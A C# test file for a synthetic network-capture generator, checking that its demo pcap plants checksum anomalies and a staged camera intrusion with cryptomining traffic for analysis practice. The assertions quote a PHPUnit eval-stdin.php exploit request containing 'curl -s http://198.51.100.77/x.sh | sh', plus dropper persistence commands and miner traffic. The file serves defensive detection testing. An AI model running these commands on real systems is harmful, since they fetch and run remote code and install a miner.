using System.Net;
using System.Security.Cryptography;
using System.Text;
using Assay.Synthesis.Packets;
using Assay.Synthesis.Scenarios;
using Assay.Synthesis.Tests.Support;

namespace Assay.Synthesis.Tests.Scenarios;

/// <summary>Generates the default demo once for all tests in the class.</summary>
public sealed class DemoCaptureFixture : IDisposable
{
    public DemoCaptureFixture()
    {
        Directory = System.IO.Directory.CreateTempSubdirectory("assay-demo-");
        Path = System.IO.Path.Combine(Directory.FullName, "demo.pcap");
        Summary = DemoScenario.Write(Path);
        File = System.IO.File.ReadAllBytes(Path);
        (LinkType, _, Packets) = PcapFileReader.Read(File);
        Frames = Packets.ConvertAll(p => ParsedFrame.Ethernet(p.Data));
    }

    public DirectoryInfo Directory { get; }
    public string Path { get; }
    public ScenarioSummary Summary { get; }
    public byte[] File { get; }
    public int LinkType { get; }
    public List<(long TimestampNanos, byte[] Data)> Packets { get; }
    public List<ParsedFrame> Frames { get; }

    /// <summary>Frames belonging to a flow (either direction), in file order.</summary>
    public IEnumerable<ParsedFrame> FramesOf(PlantedFlow flow) => Frames.Where(f =>
        f.Protocol == (int)flow.Protocol
        && ((Equals(f.Source, flow.ClientAddress) && f.SourcePort == flow.ClientPort && Equals(f.Destination, flow.ServerAddress) && f.DestinationPort == flow.ServerPort)
            || (Equals(f.Source, flow.ServerAddress) && f.SourcePort == flow.ServerPort && Equals(f.Destination, flow.ClientAddress) && f.DestinationPort == flow.ClientPort)));

    /// <summary>The client→server byte stream of a TCP flow (segments in sequence order, duplicates dropped).</summary>
    public byte[] ClientStream(PlantedFlow flow) => Stream(flow, fromClient: true);

    public byte[] ServerStream(PlantedFlow flow) => Stream(flow, fromClient: false);

    private byte[] Stream(PlantedFlow flow, bool fromClient)
    {
        var segments = new SortedDictionary<uint, byte[]>();
        foreach (ParsedFrame f in FramesOf(flow))
        {
            if ((f.SourcePort == flow.ClientPort && Equals(f.Source, flow.ClientAddress)) == fromClient && f.Payload.Length > 0)
                segments[f.Sequence] = f.Payload;
        }

        return [.. segments.Values.SelectMany(s => s)];
    }

    public void Dispose() => Directory.Delete(recursive: true);
}

public class DemoScenarioTests(DemoCaptureFixture demo) : IClassFixture<DemoCaptureFixture>
{
    private static bool Contains(byte[] haystack, string needle) => haystack.AsSpan().IndexOf(Encoding.ASCII.GetBytes(needle)) >= 0;

    [Fact]
    public void DefaultDemoIsTenMinutesOfTwentyToFiftyThousandPackets()
    {
        ScenarioSummary s = demo.Summary;
        Assert.Equal(1, demo.LinkType);
        Assert.Equal(demo.Path, s.Path);
        Assert.Equal(s.PacketCount, demo.Packets.Count);
        Assert.InRange(s.PacketCount, 20_000, 50_000);
        Assert.Equal(demo.Packets.Sum(p => (long)p.Data.Length), s.ByteCount);
        Assert.Equal(demo.Packets[0].TimestampNanos, s.FirstTimestampNanos / 1000 * 1000); // the file has microseconds
        Assert.Equal(demo.Packets[^1].TimestampNanos, s.LastTimestampNanos / 1000 * 1000);
        TimeSpan span = TimeSpan.FromTicks((s.LastTimestampNanos - s.FirstTimestampNanos) / 100);
        Assert.InRange(span, TimeSpan.FromMinutes(9), TimeSpan.FromMinutes(10));
        for (int i = 1; i < demo.Packets.Count; i++)
            Assert.True(demo.Packets[i].TimestampNanos >= demo.Packets[i - 1].TimestampNanos, $"packet {i} is out of time order");
    }

    [Fact]
    public void EveryChecksumVerifiesExceptThePlantedOnes()
    {
        var planted = demo.Summary.Anomalies.Select(a => a.PacketIndex).ToHashSet();
        for (int i = 0; i < demo.Frames.Count; i++)
        {
            if (planted.Contains(i))
                continue;
            ParsedFrame f = demo.Frames[i];
            Assert.True(f.IPv4ChecksumValid, $"packet {i}: IPv4 checksum");
            Assert.True(f.TransportChecksumValid, $"packet {i}: transport checksum");
        }
    }

    [Fact]
    public void PlantedAnomaliesAreWhereTheSummarySays()
    {
        Dictionary<string, PlantedAnomaly> byName = demo.Summary.Anomalies.ToDictionary(a => a.Anomaly);
        Assert.Equal(["ipv4.checksum_invalid", "tcp.hlen_past_end", "tcp.pkt_too_small"], byName.Keys.Order());

        Assert.False(demo.Frames[byName["ipv4.checksum_invalid"].PacketIndex].IPv4ChecksumValid);

        ParsedFrame tooSmall = demo.Frames[byName["tcp.pkt_too_small"].PacketIndex];
        Assert.Equal(ParsedFrame.ProtoTcp, tooSmall.Protocol);
        Assert.True(tooSmall.IPv4ChecksumValid);
        Assert.Equal(12, tooSmall.IpPayload.Length);

        ParsedFrame pastEnd = demo.Frames[byName["tcp.hlen_past_end"].PacketIndex];
        Assert.Equal(24, pastEnd.IpPayload.Length);
        Assert.True((pastEnd.IpPayload[12] >> 4) * 4 > 24);
    }

    [Fact]
    public void EveryRoleIsPlantedAndItsPacketsArePresent()
    {
        foreach (FlowRole role in Enum.GetValues<FlowRole>())
            Assert.Contains(demo.Summary.Flows, f => f.Role == role);
        // ICMP has no ports and non-first fragments carry none: those are matched elsewhere.
        foreach (PlantedFlow flow in demo.Summary.Flows.Where(f => f.Protocol is IPProtocolNumber.Tcp or IPProtocolNumber.Udp && f.Role != FlowRole.FragmentedDns))
        {
            int seen = demo.FramesOf(flow).Count();
            Assert.True(seen >= flow.PacketCount, $"{flow}: {seen} frames in file");
        }

        int flows = demo.Summary.Flows.Sum(f => f.PacketCount);
        int arp = demo.Frames.Count(f => f.EtherType == 0x0806);
        Assert.True(demo.Summary.PacketCount == flows + demo.Summary.Anomalies.Count + arp,
            $"{demo.Summary.PacketCount} packets = {flows} in flows + {demo.Summary.Anomalies.Count} anomalies + {arp} ARP?");
    }

    [Fact]
    public void CameraIntrusionUnfoldsInOrder()
    {
        PlantedFlow exploit = demo.Summary.WithRole(FlowRole.ExploitAttempt).Single();
        PlantedFlow dropper = demo.Summary.WithRole(FlowRole.DropperDownload).Single();
        PlantedFlow miner = demo.Summary.WithRole(FlowRole.MinerDownload).Single();
        PlantedFlow lookup = demo.Summary.WithRole(FlowRole.PoolDnsLookup).Single();
        PlantedFlow stratum = demo.Summary.WithRole(FlowRole.StratumXmrig).Single();
        Assert.True(exploit.StartNanos < dropper.StartNanos && dropper.StartNanos < miner.StartNanos
            && miner.StartNanos < lookup.StartNanos && lookup.StartNanos < stratum.StartNanos);

        IPAddress camera = exploit.ServerAddress;
        Assert.Equal(camera, dropper.ClientAddress);
        Assert.Equal(camera, stratum.ClientAddress);
        Assert.Equal(3333, stratum.ServerPort);

        byte[] request = demo.ClientStream(exploit);
        Assert.True(Contains(request, "POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1"));
        Assert.True(Contains(request, "<?php"));
        Assert.True(Contains(request, "curl -s http://198.51.100.77/x.sh | sh"));

        byte[] script = demo.ServerStream(dropper);
        foreach (string s in (string[])["#!/bin/sh", "pkill", "crontab", "chattr +i", "xmr.pool.example:3333"])
            Assert.True(Contains(script, s), s);

        byte[] elfResponse = demo.ServerStream(miner);
        int body = elfResponse.AsSpan().IndexOf("\r\n\r\n"u8) + 4;
        Assert.Equal("\u007fELF"u8.ToArray(), elfResponse[body..(body + 4)]);
        foreach (string s in (string[])["xmrig", "randomx", "stratum+tcp://"])
            Assert.True(Contains(elfResponse, s), s);

        Assert.Contains(demo.FramesOf(lookup), f => Contains(f.Payload, "\u0003xmr\u0004pool\u0007example"));

        string up = Encoding.ASCII.GetString(demo.ClientStream(stratum));
        string down = Encoding.ASCII.GetString(demo.ServerStream(stratum));
        Assert.StartsWith("{\"id\":1,\"jsonrpc\":\"2.0\",\"method\":\"login\"", up, StringComparison.Ordinal);
        Assert.Contains("XMRig/6.21.0", up, StringComparison.Ordinal);
        Assert.Contains("\"method\":\"submit\"", up, StringComparison.Ordinal);
        Assert.Contains("\"method\":\"keepalived\"", up, StringComparison.Ordinal);
        Assert.True(down.Split('\n').Count(l => l.Contains("\"method\":\"job\"", StringComparison.Ordinal)) >= 10, "jobs every ~30 s");
        Assert.All(up.Split('\n', StringSplitOptions.RemoveEmptyEntries), l => System.Text.Json.JsonDocument.Parse(l).Dispose());
        Assert.DoesNotContain(demo.FramesOf(stratum), f => (f.TcpFlags & 0x05) != 0); // left open: no FIN, no RST
    }

    [Fact]
    public void PrinterMinesOverCleartextStratumOnAnOddPort()
    {
        PlantedFlow flow = demo.Summary.WithRole(FlowRole.StratumCleartextOddPort).Single();
        Assert.Equal(8080, flow.ServerPort);
        string up = Encoding.ASCII.GetString(demo.ClientStream(flow));
        string down = Encoding.ASCII.GetString(demo.ServerStream(flow));
        Assert.StartsWith("{\"id\":1,\"method\":\"mining.subscribe\"", up, StringComparison.Ordinal);
        Assert.Contains("mining.authorize", up, StringComparison.Ordinal);
        Assert.Contains("mining.submit", up, StringComparison.Ordinal);
        Assert.Contains("mining.notify", down, StringComparison.Ordinal);
        Assert.Contains("mining.set_difficulty", down, StringComparison.Ordinal);
    }

    [Fact]
    public void TlsPoolSessionHasNoSni()
    {
        PlantedFlow flow = demo.Summary.WithRole(FlowRole.StratumTlsNoSni).Single();
        Assert.Equal(443, flow.ServerPort);
        byte[] hello = demo.ClientStream(flow);
        Assert.Equal(22, hello[0]);
        Assert.Equal(1, hello[5]);
        Assert.DoesNotContain(demo.Summary.Flows, f => f.Role == FlowRole.DnsLookup && f.Description.Contains("198.51.100.30", StringComparison.Ordinal));

        // Every browsing session does carry SNI.
        PlantedFlow web = demo.Summary.WithRole(FlowRole.WebTls).First();
        PlantedFlow site = web;
        Assert.True(Contains(demo.ClientStream(site), ".example"));
    }

    [Fact]
    public void EdgeCasesArePresent()
    {
        Assert.Contains(demo.Frames, f => f.VlanIds.SequenceEqual(new ushort[] { 30 }));
        Assert.Contains(demo.Frames, f => f.VlanIds.SequenceEqual(new ushort[] { 100, 30 }) && f.VlanTpids[0] == 0x88A8);
        Assert.Contains(demo.Frames, f => f.IpVersion == 6 && f.Protocol == ParsedFrame.ProtoTcp);
        Assert.Contains(demo.Frames, f => f.IpVersion == 6 && f.Protocol == ParsedFrame.ProtoIcmpV6);
        Assert.Contains(demo.Frames, f => f.EtherType == 0x0806);
        Assert.Contains(demo.Frames, f => f.TrailerLength > 0); // padded short frames

        PlantedFlow fragmented = demo.Summary.WithRole(FlowRole.FragmentedDns).Single();
        var pieces = demo.Frames.Where(f => f.IsFragment && Equals(f.Source, fragmented.ServerAddress)).ToList();
        Assert.Equal(2, pieces.Count);
        byte[] whole = new byte[pieces.Max(p => p.FragmentOffset + p.IpPayload.Length)];
        foreach (ParsedFrame p in pieces)
            p.IpPayload.CopyTo(whole, p.FragmentOffset);
        ParsedFrame first = pieces.Single(p => p.FragmentOffset == 0);
        first.ParseTransport(fragmented.ServerAddress.GetAddressBytes(), fragmented.ClientAddress.GetAddressBytes(), whole);
        Assert.True(first.TransportChecksumValid);
        Assert.Equal(fragmented.ClientPort, first.DestinationPort);
        Assert.Equal(140, (first.Payload[6] << 8) | first.Payload[7]); // ANCOUNT
    }

    [Fact]
    public void SameSeedGivesAByteIdenticalFileAndAnotherSeedDoesNot()
    {
        string again = Path.Combine(demo.Directory.FullName, "again.pcap");
        string other = Path.Combine(demo.Directory.FullName, "other.pcap");
        DemoScenario.Write(again);
        DemoScenario.Write(other, new DemoOptions { Seed = 99 });
        Assert.Equal(SHA256.HashData(demo.File), SHA256.HashData(File.ReadAllBytes(again)));
        Assert.NotEqual(SHA256.HashData(demo.File), SHA256.HashData(File.ReadAllBytes(other)));
    }

    [Fact]
    public void DefaultDemoIsFast()
    {
        // The brief is < 2 s on a dev machine; shared CI cores get slack.
        Assert.True(demo.Summary.GenerationTime < TimeSpan.FromSeconds(6), $"took {demo.Summary.GenerationTime}");
    }

    [Theory]
    [InlineData(60, 0.1)]
    [InlineData(180, 0.5)]
    public void ShortOrSparseDemosStillPlantEveryMaliciousStage(int seconds, double scale)
    {
        using var stream = new MemoryStream();
        ScenarioSummary s = DemoScenario.Write(stream, new DemoOptions { Duration = TimeSpan.FromSeconds(seconds), Scale = scale, Seed = 5 });
        foreach (FlowRole role in Enum.GetValues<FlowRole>().Where(r => r >= FlowRole.ExploitAttempt))
            Assert.Contains(s.Flows, f => f.Role == role);
        Assert.Equal(3, s.Anomalies.Count);
        (_, _, List<(long TimestampNanos, byte[] Data)> packets) = PcapFileReader.Read(stream.ToArray());
        Assert.Equal(s.PacketCount, packets.Count);
        Assert.True(s.PacketCount < demo.Summary.PacketCount);
    }
}
